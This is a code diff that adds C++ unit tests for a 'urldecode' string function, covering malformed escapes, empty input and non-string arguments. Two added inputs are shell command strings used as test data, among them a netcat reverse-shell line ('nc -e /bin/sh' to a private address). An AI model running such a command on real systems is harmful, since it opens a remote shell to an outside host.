@@ -143,6 +143,12 @@ TEST(Urldecode, EdgeCases) {
   EXPECT_EQ(call("urldecode", {S("%zz%4")}), S("%zz%4"));
   EXPECT_EQ(call("urldecode", {S("a+b")}), S("a+b"));  // policy::kUrldecodePlusIsSpace
   EXPECT_EQ(call("urldecode", {kNull}), kNull);
+  // Text before the first escape is kept as is, escapes anywhere decode.
+  EXPECT_EQ(call("urldecode", {S("/bin/sh -c id")}), S("/bin/sh -c id"));
+  EXPECT_EQ(call("urldecode", {S("")}), S(""));
+  EXPECT_EQ(call("urldecode", {S("nc -e /bin/sh 10.0.0.1%2F4444 %41")}), S("nc -e /bin/sh 10.0.0.1/4444 A"));
+  EXPECT_EQ(call("urldecode", {S("%41bc")}), S("Abc"));
+  EXPECT_EQ(call("urldecode", {N(42)}), S("42"));
 }
 
 TEST(StringFunctions, HugeInputs) {
